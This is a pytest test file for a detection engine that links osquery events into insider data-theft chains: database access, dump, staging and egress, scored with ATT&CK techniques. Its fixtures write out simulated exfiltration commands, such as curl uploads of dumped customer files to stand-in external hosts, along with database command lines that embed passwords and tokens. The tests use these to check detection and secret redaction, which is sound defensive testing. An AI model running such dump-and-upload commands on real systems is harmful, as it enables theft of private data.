"""The pure chain engine: state in, rows in, findings out."""

from __future__ import annotations

import json

import pytest
from correlate_scenarios.make_scenarios import D, H, MON, Log

from osq_dbwatch.config import parse_config
from osq_dbwatch.correlate import baseline as B
from osq_dbwatch.correlate import reasons as R
from osq_dbwatch.correlate.engine import Engine, HostState, chain_uid, is_external_destination
from osq_dbwatch.correlate.findings import to_ecs, to_ocsf
from osq_dbwatch.correlate.rows import Row, parse_line

CONFIG = """
admins:
  users: [root-dba]
  groups: [dba]
service_accounts: [backup]
internal_networks: [10.0.0.0/8]
correlator:
  max_pending_per_host: 3
"""
T = MON + D + 2 * H


def rows_of(log: Log) -> list[Row]:
    out: list[Row] = []
    for line in log.lines:
        out.extend(parse_line(line.encode()).rows)
    return out


def engine(text: str = CONFIG) -> Engine:
    return Engine(parse_config(text))


def insider(log: Log, host: str = "pg-1", t: int = T, user: str = "mallory", pid: int = 4101) -> None:
    log.db_exec(host, t, user, 1004, "psql -h 127.0.0.1 -U app -d customers", "/usr/bin/psql", pid, "/usr/bin/bash", "-bash")
    log.dump_file(host, t + 150, f"/tmp/{user}.csv", user, 1004)
    log.transfer(host, t + 290, user, 1004, f"curl -T /tmp/{user}.csv https://files.example.net/u", "/usr/bin/curl", pid + 30)
    log.egress(host, t + 291, pid + 30, "/usr/bin/curl", "93.184.216.34", 443, user, 1004)


def test_one_call_gives_one_high_finding() -> None:
    log = Log()
    insider(log)
    state, findings = engine().process(HostState("pg-1"), rows_of(log))
    (f,) = findings
    assert (f.severity_id, f.update, f.user, f.stages) == (4, False, "mallory", ["access", "dump", "egress"])
    assert f.first_seen_ms == T * 1000 and f.time_ms == f.last_seen_ms == (T + 291) * 1000
    assert {"T1213", "T1005", "T1074", "T1567"} <= set(f.techniques)
    kinds = [next(k for k in ("process", "file", "dst_endpoint") if k in e) for e in f.evidences]
    assert kinds == ["process", "file", "process", "process"] and "dst_endpoint" in f.evidences[-1]


def test_later_evidence_that_raises_severity_is_an_update_with_the_same_uid() -> None:
    log = Log()
    insider(log)
    rows = rows_of(log)
    e = engine()
    state = HostState("pg-1")
    seen = []
    for row in rows:
        state, findings = e.process(state, [row])
        seen.extend(findings)
    assert [(f.severity_id, f.update) for f in seen] == [(2, False), (3, True), (4, True)]
    assert len({f.uid for f in seen}) == 1
    # osquery resends rows: nothing new comes out, in the same or a later call
    state, again = e.process(state, rows + rows)
    assert again == []


def test_uid_is_stable_and_derived_from_host_user_and_first_event() -> None:
    log = Log()
    insider(log)
    a = engine().process(HostState("pg-1"), rows_of(log))[1][0].uid
    b = engine().process(HostState("pg-1"), rows_of(log))[1][0].uid
    assert a == b == chain_uid("pg-1", "mallory", f"x|db_cli_exec|4101|{T}|/usr/bin/psql")
    other = Log()
    insider(other, user="eve")
    assert engine().process(HostState("pg-1"), rows_of(other))[1][0].uid != a


@pytest.mark.parametrize("cut", range(0, 5))
def test_state_survives_serialisation_at_any_point(cut: int) -> None:
    log = Log()
    insider(log)
    insider(log, user="eve", pid=5000, t=T + 60)
    rows = rows_of(log)
    e = engine()
    one, findings_one = e.process(HostState("pg-1"), rows)
    state, first = e.process(HostState("pg-1"), rows[:cut])
    restored = HostState.from_json(json.loads(json.dumps(state.to_json())))
    restored, second = e.process(restored, rows[cut:])
    final = {f.uid: f.severity_id for f in first + second}
    assert final == {f.uid: f.severity_id for f in findings_one}
    assert restored.to_json()["chains"] == one.to_json()["chains"]


def _as_saved_by_0_1_0(saved: dict) -> dict:
    """A host state as osq-dbwatch 0.1.0 wrote it: pid entries as objects without the tool, files with an _id."""
    old = dict(saved)
    old["pids"] = {pid: {"t": t, "user": user, "kind": kind, "files": list(files)}
                   for pid, (t, user, kind, files, _tool) in saved["pids"].items()}
    old["files"] = [{"_id": f"f|{f['path']}", **f} for f in saved["files"]]
    return old


def test_state_saved_by_0_1_0_still_loads_and_links() -> None:
    log = Log()
    log.db_exec("pg-1", T - 60, "bob", 1005, "psql -d crm", "/usr/bin/psql", 60, "/usr/bin/bash", "-bash")
    log.dump_file("pg-1", T + 20, "/tmp/early.csv", "mallory", 1004)  # remembered before mallory's access
    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
    rows = rows_of(log)
    e = engine()
    uninterrupted = e.process(HostState("pg-1"), rows)[1]
    state, first = e.process(HostState("pg-1"), rows[:2])
    saved = json.loads(json.dumps(state.to_json()))
    assert saved["files"] and saved["pids"]
    restored = HostState.from_json(_as_saved_by_0_1_0(saved))
    assert restored.to_json()["files"] == saved["files"]
    reloaded = json.loads(json.dumps(restored.to_json()))
    assert {pid: entry[:4] for pid, entry in reloaded["pids"].items()} == \
        {pid: entry[:4] for pid, entry in saved["pids"].items()}
    restored, second = e.process(restored, rows[2:])
    assert sorted((f.uid, f.severity_id, f.stages) for f in first + second) == \
        sorted((f.uid, f.severity_id, f.stages) for f in uninterrupted)
    assert [f.stages for f in second if f.user == "mallory"] == [["access", "dump"]]


def test_evidence_before_its_access_is_linked() -> None:
    log = Log()
    log.dump_file("pg-1", T + 20, "/tmp/early.csv", "mallory", 1004)
    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.severity_id == 3 and f.stages == ["access", "dump"]


def test_windows_bound_the_chain() -> None:
    log = Log()
    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
    log.dump_file("pg-1", T + 901, "/tmp/late.csv", "mallory", 1004)  # dump_after_access is 15m
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.severity_id == 2 and f.stages == ["access"]
    log = Log()
    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
    log.dump_file("pg-1", T + 100, "/tmp/x.csv", "mallory", 1004)
    log.egress("pg-1", T + 100 + 901, 99, "/usr/bin/curl", "93.184.216.34", 443, "mallory", 1004)
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.stages == ["access", "dump"]


def test_other_users_files_and_connections_do_not_join() -> None:
    log = Log()
    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
    log.dump_file("pg-1", T + 10, "/tmp/x.csv", "trent", 1005)
    log.egress("pg-1", T + 20, 99, "/usr/bin/curl", "93.184.216.34", 443, "trent", 1005)
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.stages == ["access"]


def test_admins_by_config_and_by_admin_accounts_rows() -> None:
    log = Log()
    log.db_exec("pg-1", T, "root-dba", 1, "pg_dump -f /tmp/a.sql db", "/usr/bin/pg_dump", 10, "/usr/bin/bash", "-bash")
    log.admins("pg-1", T, [("grace", "dba", 1010), ("root", "root", 0)])
    log.db_exec("pg-1", T + 1, "grace", 1010, "psql", "/usr/bin/psql", 11, "/usr/bin/bash", "-bash")
    log.db_exec("pg-1", T + 2, "root", 0, "psql", "/usr/bin/psql", 12, "/usr/bin/bash", "-bash")
    findings = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert [f.user for f in findings] == ["root"]  # group root is not an admin group


def test_admin_removed_by_a_differential_row_is_no_longer_admin() -> None:
    e = engine()
    state = HostState("pg-1")
    log = Log()
    obj = log._head("admin_accounts", "pg-1", T, 1)
    obj["diffResults"] = {"added": [{"username": "grace", "groupname": "dba", "uid": "1010"}], "removed": []}
    log.lines.append(json.dumps(obj))
    obj = log._head("admin_accounts", "pg-1", T + 10, 2)
    obj["diffResults"] = {"added": [], "removed": [{"username": "grace", "groupname": "dba", "uid": "1010"}]}
    log.lines.append(json.dumps(obj))
    log.db_exec("pg-1", T + 20, "grace", 1010, "psql", "/usr/bin/psql", 11, "/usr/bin/bash", "-bash")
    assert [f.user for f in e.process(state, rows_of(log))[1]] == ["grace"]


def test_hosts_with_the_same_snapshot_members_share_their_admin_groups() -> None:
    """A new snapshot's groups follow from its members alone: hosts sending the same members share one
    read-only copy, a later differential row on one host changes its own copy only, and other members,
    or the same members in another snapshot of the same host, give the right groups."""
    e = engine()
    one, two, three = HostState("pg-1"), HostState("pg-2"), HostState("pg-3")
    members = [("grace", "dba"), ("root", "root"), ("alice", "dba")]
    e.on_admin_snapshot(one, T, list(members))
    e.on_admin_snapshot(two, T + 5, list(members))
    e.on_admin_snapshot(three, T, [("grace", "dba")])
    assert one.admin_groups == {"grace": ["dba"], "alice": ["dba"]} and two.admin_groups is one.admin_groups
    assert three.admin_groups == {"grace": ["dba"]}
    log = Log()
    obj = log._head("admin_accounts", "pg-2", T + 10, 2)
    obj["diffResults"] = {"added": [], "removed": [{"username": "grace", "groupname": "dba", "uid": "1010"}]}
    log.lines.append(json.dumps(obj))
    e.process(two, rows_of(log))
    assert two.admin_groups == {"alice": ["dba"]} and one.admin_groups == {"grace": ["dba"], "alice": ["dba"]}
    e.on_admin_snapshot(two, T + 3600, list(members))  # the next snapshot of pg-2: both admins again
    assert two.admin_groups is one.admin_groups
    e.on_admin_snapshot(one, T + 3600, [("root", "root")])  # nobody in an admin group any more
    assert not one.admin_groups and two.admin_groups == {"grace": ["dba"], "alice": ["dba"]}


def test_admin_under_a_server_is_still_unusual() -> None:
    log = Log()
    log.db_exec("pg-1", T, "root-dba", 1, "psql", "/usr/bin/psql", 10, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start")
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.severity_id == 4 and "web-server-parent:+40" in f.reasons and "T1505.003" in f.techniques


def test_context_never_leaves_the_ladder_band() -> None:
    log = Log()
    # dump intent, password, hidden staging parent, non-interactive: still "low" for an access alone
    log.db_exec("pg-1", T, "mallory", 1004, "mysqldump -u root -pX --result-file=/root/x.sql shop", "/usr/bin/mysqldump", 10,
                "/dev/shm/.k", "")
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.severity_id == 2 and f.score == 39
    assert {"dump-intent:+5", "password-on-cmdline:+5", "unusual-parent:+5", "non-interactive:+5"} <= set(f.reasons)


def test_pending_chains_are_capped_and_evictions_counted() -> None:
    log = Log()
    for i in range(10):
        log.db_exec("pg-1", T + i, f"user{i}", 2000 + i, "psql", "/usr/bin/psql", 100 + i, "/usr/bin/bash", "-bash")
    state, findings = engine().process(HostState("pg-1"), rows_of(log))
    assert len(state.chains) == 3 and state.evictions == 7
    assert sorted(c.user for c in state.chains.values()) == ["user7", "user8", "user9"]


def test_old_state_expires() -> None:
    e = engine(CONFIG + "  state_expiry: 1d\n")
    log = Log()
    insider(log)
    state, _ = e.process(HostState("pg-1"), rows_of(log))
    assert state.chains and state.emitted and state.pids
    later = Log()
    later.db_exec("pg-1", T + 3 * D, "root-dba", 1, "psql", "/usr/bin/psql", 10, "/usr/bin/bash", "-bash")
    state, _ = e.process(state, rows_of(later))
    assert not state.chains and not state.emitted and not state.files and not state.egress
    assert list(state.pids) == ["10"]


def test_a_sweep_with_nothing_stale_builds_no_table() -> None:
    """The expiry sweep (a host's first row runs one) keeps a table with nothing older than its cut as it is,
    and rebuilds one that has a stale entry (issue 10 item 6, issue 12: no new objects for nothing)."""
    e = engine()
    log = Log()
    insider(log)
    state, _ = e.process(HostState("pg-1"), rows_of(log))
    tables = (state.files, state.egress, state.pids, state.seen)
    assert all(tables)
    state.last_expiry = 0  # a sweep is due; every entry is minutes old
    e.flush(state)
    assert all(now is before for now, before in zip((state.files, state.egress, state.pids, state.seen), tables))
    later = Log()
    later.db_exec("pg-1", T + D, "root-dba", 1, "psql", "/usr/bin/psql", 10, "/usr/bin/bash", "-bash")
    state, _ = e.process(state, rows_of(later))
    assert not state.files and not state.egress and list(state.pids) == ["10"] and not state.seen
    assert state.pids is not tables[2]


def test_deferred_learning_counts_the_days_run_by_run_learning_counts() -> None:
    """defer_keys() (the hot path) finds a new day by comparing with the next day's start, not by dividing: several
    runs a day over weeks, at one hour of the week, give the tables learn() gives run by run."""
    start = MON + 10 * H
    times = [start + week * 7 * D + minute * 60 for week in range(4) for minute in (0, 5, 5, 20, 59)]
    k = B.keys("eve", "sqlite3", "bash")
    deferred, direct = B.Baseline(), B.Baseline()
    for t in times:
        B.defer_keys(deferred, k, t)
        B.learn(direct, "eve", "sqlite3", "bash", t)
    B.settle(deferred)
    assert deferred.to_json() == direct.to_json()
    run_key = B.SEP.join(("eve", "sqlite3", "bash", str(B.hour_of_week(start))))
    assert B.count_of(deferred.runs[run_key]) == 4


def test_flood_of_rows_keeps_state_bounded() -> None:
    log = Log()
    for i in range(3000):
        log.dump_file("pg-1", T + i, f"/tmp/f{i}.sql", f"u{i}", 3000 + i)
        log.egress("pg-1", T + i, 5000 + i, "/usr/bin/curl", "93.184.216.34", 443, f"u{i}", 3000 + i)
        log.transfer("pg-1", T + i, f"u{i}", 3000 + i, f"curl -T /tmp/f{i}.sql https://a.example.com", "/usr/bin/curl", 9000 + i)
    state, _ = engine().process(HostState("pg-1"), rows_of(log))
    assert len(state.files) <= 256 and len(state.egress) <= 256 and len(state.pids) <= 4096 and len(state.seen) <= 8192


@pytest.mark.parametrize(
    ("dest", "external"),
    [("93.184.216.34", True), ("10.1.2.3", False), ("127.0.0.1", False), ("::1", False), ("fe80::1%eth0", False),
     ("files.example.net", True), ("backup", False), ("db.internal", False), ("nas.local", False), ("localhost", False),
     ("2001:db8::1", True), ("::ffff:10.0.0.1", False), ("", False)],
)
def test_external_destinations(dest: str, external: bool) -> None:
    assert is_external_destination(parse_config(CONFIG), dest) is external


SECRETS = ["Sup3rS3cret", "hunter2x", "tok_live_abc", "pw4curl", "envpass9"]


def test_no_secret_from_a_command_line_reaches_any_field() -> None:
    log = Log()
    log.db_exec("pg-1", T, "mallory", 1004, "mysql -u root -pSup3rS3cret -h db shop", "/usr/bin/mariadb", 10,
                "/usr/bin/dash", "sh -c PGPASSWORD=envpass9 psql postgres://app:hunter2x@db/x", session=True)
    log.dump_file("pg-1", T + 5, "/tmp/x.sql", "mallory", 1004)
    log.transfer("pg-1", T + 10, "mallory", 1004,
                 "curl -u bob:pw4curl -H Authorization: Bearer tok_live_abc -T /tmp/x.sql https://e.example.com",
                 "/usr/bin/curl", 20)
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    for rendered in (to_ocsf(f), to_ecs(f)):
        text = json.dumps(rendered)
        for secret in SECRETS:
            assert secret not in text


def test_every_reason_label_is_registered() -> None:
    log = Log()
    insider(log)
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    for label in f.reasons:
        code, delta = label.split(":")
        assert code in R.REASONS and int(delta) == int(delta)


from hypothesis import given, settings, strategies as st  # noqa: E402

from osq_dbwatch.correlate.cli import _line  # noqa: E402
from osq_dbwatch.correlate.jsonlib import dumps as _dumps  # noqa: E402

_values = st.one_of(
    st.sampled_from(["", "0", "-1", "4294967295", "1004", "mallory", "www-data", "/usr/bin/psql", "/tmp/x.sql",
                     "psql -d x -c \\copy t to '/tmp/x.csv'", "mysqldump -u root -pX db", "curl -T /tmp/x.sql https://e.example",
                     "tar czf /tmp/a.tgz /tmp/x.sql", "93.184.216.34", "10.0.0.1", "::1", "sh -c mysql > /var/www/a.sql",
                     "/usr/sbin/apache2", "-bash", "CREATED", "DELETED", "1793671805", "99999999999999999999", "nan", "1e300"]),
    st.integers(min_value=-2**63, max_value=2**64),
    st.text(max_size=30),
)
_columns = st.dictionaries(
    st.sampled_from(["pid", "parent", "path", "cmdline", "cwd", "uid", "auid", "username", "login_user", "parent_path",
                     "parent_cmdline", "time", "target_path", "action", "owner", "size", "inode", "remote_address",
                     "remote_port", "success", "user", "command", "file", "file_mtime", "start_time", "ancestry",
                     "ancestry_paths", "tty", "interactive", "systemd_unit", "groupname", "output_path", "intent"]),
    _values, max_size=14,
)
_queries = st.sampled_from(["db_cli_exec", "transfer_exec", "dump_file_events", "db_egress", "admin_accounts",
                            "db_cli_sessions", "dump_like_files", "db_client_history"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_queries, _columns, st.sampled_from(["added", "snapshot"]), st.integers(0, 3)), max_size=12))
def test_engine_never_crashes_on_hostile_rows(items: list) -> None:
    e = engine()
    state = HostState("h")
    for query, columns, action, counter in items:
        line = json.dumps({"name": "pack_dbwatch_" + query, "hostIdentifier": "h", "unixTime": 1793671805,
                           "counter": counter, "columns": columns, "action": action}).encode()
        try:
            rows = parse_line(line).rows
        except Exception as exc:  # only BadLine is allowed out of the parser
            assert type(exc).__name__ == "BadLine"
            continue
        state, findings = e.process(state, rows)
        for f in findings:
            _line(to_ocsf(f))  # what the CLI writes
            _line(to_ecs(f))
    HostState.from_json(json.loads(_dumps(state.to_json())))


def test_stages_follow_event_time_not_log_order() -> None:
    log = Log()
    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
    # osquery logs the socket query's rows before the file query's
    log.egress("pg-1", T + 300, 99, "/usr/bin/curl", "93.184.216.34", 443, "mallory", 1004)
    log.dump_file("pg-1", T + 100, "/tmp/x.csv", "mallory", 1004)
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.stages == ["access", "dump", "egress"] and f.severity_id == 4


def test_baseline_observe_is_judge_then_learn() -> None:
    import random

    from osq_dbwatch.config import CorrelatorSettings
    from osq_dbwatch.correlate import baseline as B

    settings = CorrelatorSettings(baseline_min_observations=2, baseline_novel_after_seconds=3600)
    rng = random.Random(1)
    a, b = B.Baseline(), B.Baseline()
    for _ in range(2000):
        args = (rng.choice("uvw"), rng.choice(["psql", "mysql"]), rng.choice(["bash", "", "cron"]), MON + rng.randrange(30 * D))
        assert B.observe(a, settings, *args) == B.judge(b, settings, *args)
        B.learn(b, *args)
    assert a == b


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["learn", "defer", "judge", "prune"]), st.sampled_from("uvw"),
                          st.sampled_from(["psql", "mysql"]), st.sampled_from(["bash", "", "cron"]),
                          st.integers(min_value=0, max_value=40 * D) | st.sampled_from([2**34 - 1, 2**34 + 5, 10**11 - 1])),
                min_size=1, max_size=300))
def test_deferred_learning_settles_to_what_learning_each_run_gives(ops: list[tuple[str, str, str, str, int]]) -> None:
    """defer_keys() then settle() (the fast path of expected runs) equals learn() run by run.

    learn() updates the tables directly (_bump), so it is a reference independent of settle().
    """
    from osq_dbwatch.config import CorrelatorSettings
    from osq_dbwatch.correlate import baseline as B

    settings = CorrelatorSettings(baseline_min_observations=2, baseline_novel_after_seconds=3600)
    now, later = B.Baseline(), B.Baseline()
    keys: dict[tuple[str, str, str], B.Keys] = {}
    for op, user, tool, parent, offset in ops:
        t = MON + offset if offset < 2**33 else offset
        k = keys.setdefault((user, tool, parent), B.keys(user, tool, parent))
        if op == "judge":
            assert B.observe_keys(now, settings, k, t) == B.observe_keys(later, settings, B.keys(user, tool, parent), t)
        elif op == "prune":
            B.prune(now, t, 86400)
            B.prune(later, t, 86400)
        else:
            B.learn(now, user, tool, parent, t)
            B.defer_keys(later, k, t)
    if ops[-1][0] in ("learn", "defer"):
        assert later.pending  # the last runs are only counted so far
    assert later.to_json() == now.to_json() and not later.pending


@pytest.mark.parametrize(
    "staging",
    ["tar czf /tmp/o.tgz /tmp/x.sql", "tar -czf /tmp/o.tgz /tmp/x.sql", "gzip /tmp/x.sql", "openssl enc -in /tmp/x.sql -out /tmp/o.tgz",
     "split -b 10m /tmp/x.sql /tmp/o.tgz"],
)
def test_staged_dump_outputs_join_the_chain(staging: str) -> None:
    log = Log()
    log.db_exec("pg-1", T, "mallory", 1004, "pg_dump -f /tmp/x.sql db", "/usr/bin/pg_dump", 10, "/usr/bin/bash", "-bash")
    log.dump_file("pg-1", T + 5, "/tmp/x.sql", "mallory", 1004)
    log.transfer("pg-1", T + 20, "mallory", 1004, staging, "/usr/bin/" + staging.split()[0], 20)
    upload = "/tmp/x.sql.gz" if staging.startswith("gzip") else "/tmp/o.tgz"
    # uploaded by someone with no session: only the path ties it to the chain
    log.transfer("pg-1", T + 40, "daemon", 1, f"curl -T {upload} https://e.example.com", "/usr/bin/curl", 30, session=False)
    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
    assert f.stages == ["access", "dump", "egress"] and "dump-staged:+5" in f.reasons and "T1560" in f.techniques


def test_a_session_rows_command_line_is_read_in_the_programs_order() -> None:
    # db_cli_sessions joins /proc/PID/cmdline in the program's order; db_cli_exec's cmdline is argv as osquery
    # logs it (a0 a1 a10 a11 ... a2 ...), whose order split_cmdline recovers past 10 arguments. Read as logged,
    # this 13-argument session line loses its \copy (the "recovered" order moves the file away from it).
    cmdline = "psql -h db1 -c \\copy users to /tmp/u.csv -q -U app -X -d prod"
    e = engine()
    seen = {}
    # The exec row first: the session row must not get the class memoised for the same columns.
    for host, query in (("pg-1", "db_cli_exec"), ("pg-2", "db_cli_sessions")):
        log = Log()
        log.db_exec(host, T, "mallory", 1004, cmdline, "/usr/bin/psql", 4101, "/usr/bin/bash", "-bash", query=query)
        (f,) = e.process(HostState(host), rows_of(log))[1]
        data = f.evidences[0]["data"]
        seen[query] = (data["dump_intent"], data["output_path"], data["database"])
    assert seen["db_cli_sessions"] == ("\\copy to", "/tmp/u.csv", "")
    assert seen["db_cli_exec"] == ("", "", "prod")  # read as osquery logs it (the order it recovers)
